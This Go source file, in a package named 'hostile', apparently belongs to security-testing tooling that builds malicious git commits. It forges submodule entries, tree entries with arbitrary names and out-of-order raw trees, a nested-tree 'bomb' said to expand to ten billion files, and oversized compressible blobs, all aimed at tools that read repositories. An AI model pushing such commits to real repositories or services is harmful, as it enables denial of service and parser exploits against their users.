package hostile

import (
	"fmt"
	"strconv"
	"strings"
)

// Git runs git in the attacked repository, with an input, and gives its output without the newline at its end.
type Git func(input string, args ...string) (string, error)

// Commit commits all that lies in the worktree, with the steps that no worktree can hold:
//
//	submodule PATH          a commit of another repository
//	entry FOLDER MODE NAME  a file of that name and mode in a folder, whatever the name
//	bomb PATH               a folder of a dozen objects that has 10,000,000,000 files
//	blob PATH SIZE          a file of that many bytes, which packs to nothing
func (a *Attack) Commit(git Git, message string) error {
	if _, err := git("", "add", "-A", "-f"); err != nil {
		return err
	}
	tree, err := git("", "write-tree")
	for _, step := range a.steps {
		if err == nil {
			tree, err = take(git, tree, step)
		}
	}
	if err != nil {
		return err
	}
	commit, err := git(message, "commit-tree", tree, "-p", "HEAD")
	if err == nil {
		_, err = git("", "update-ref", "HEAD", commit)
	}
	return err
}

// The file and the folder with nothing in them.
const (
	empty     = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391"
	emptyTree = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
)

func take(git Git, tree string, step []string) (string, error) {
	switch step[0] {
	case "submodule":
		return graft(git, tree, step[1], "160000 commit "+strings.Repeat("1", 40))
	case "entry":
		if _, err := git("", "hash-object", "-w", "--stdin"); err != nil {
			return "", err
		}
		what := empty
		if step[2] == "40000" {
			what = emptyTree
		}
		return within(git, tree, step[1], func(folder string) (string, error) { return add(git, folder, step[2], step[3], what) })
	case "bomb":
		made, err := git("", "hash-object", "-w", "--stdin")
		kind := "100644 blob "
		for range 10 {
			var list strings.Builder
			for i := range 10 {
				fmt.Fprintf(&list, "%s%s\tf%d.yaml\n", kind, made, i)
			}
			if err == nil {
				made, err = git(list.String(), "mktree")
			}
			kind = "040000 tree "
		}
		if err != nil {
			return "", err
		}
		return graft(git, tree, step[1], kind+made)
	case "blob":
		size, err := strconv.Atoi(step[2])
		if err != nil {
			return "", err
		}
		made, err := git(strings.Repeat("#", size), "hash-object", "-w", "--stdin")
		if err != nil {
			return "", err
		}
		return graft(git, tree, step[1], "100644 blob "+made)
	}
	return tree, nil
}

// graft puts an entry ("mode type hash") at a path of a tree.
func graft(git Git, tree, name, entry string) (string, error) {
	folder, base := "", name
	if i := strings.LastIndex(name, "/"); i >= 0 {
		folder, base = name[:i], name[i+1:]
	}
	return within(git, tree, folder, func(tree string) (string, error) {
		list, err := git("", "ls-tree", tree)
		if err != nil {
			return "", err
		}
		return git(without(list, base)+entry+"\t"+base+"\n", "mktree", "--missing")
	})
}

// within changes a folder of a tree, which is made where there is none.
func within(git Git, tree, folder string, change func(tree string) (string, error)) (string, error) {
	if folder == "" || folder == "." {
		return change(tree)
	}
	first, rest, _ := strings.Cut(folder, "/")
	list, err := git("", "ls-tree", tree)
	if err != nil {
		return "", err
	}
	below := emptyTree
	for line := range strings.Lines(list) {
		if what, name, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "\t"); name == first {
			below = strings.Fields(what)[2]
		}
	}
	if below, err = within(git, below, rest, change); err != nil {
		return "", err
	}
	return git(without(list, first)+"040000 tree "+below+"\t"+first+"\n", "mktree", "--missing")
}

func without(list, name string) string {
	var out strings.Builder
	for line := range strings.Lines(list) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && !strings.HasSuffix(line, "\t"+name) {
			out.WriteString(line + "\n")
		}
	}
	return out.String()
}

// add puts an entry before all others of a tree, as no git would write it.
func add(git Git, tree, mode, name, hash string) (string, error) {
	list, err := git("", "ls-tree", tree)
	if err != nil {
		return "", err
	}
	raw := mode + " " + name + "\x00" + unhex(hash)
	for line := range strings.Lines(list) {
		what, name, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
		fields := strings.Fields(what)
		raw += strings.TrimPrefix(fields[0], "0") + " " + name + "\x00" + unhex(fields[2])
	}
	return git(raw, "hash-object", "-t", "tree", "-w", "--literally", "--stdin")
}

func unhex(s string) string {
	var out []byte
	for i := 0; i+1 < len(s); i += 2 {
		b, _ := strconv.ParseUint(s[i:i+2], 16, 8) // git's own
		out = append(out, byte(b))
	}
	return string(out)
}
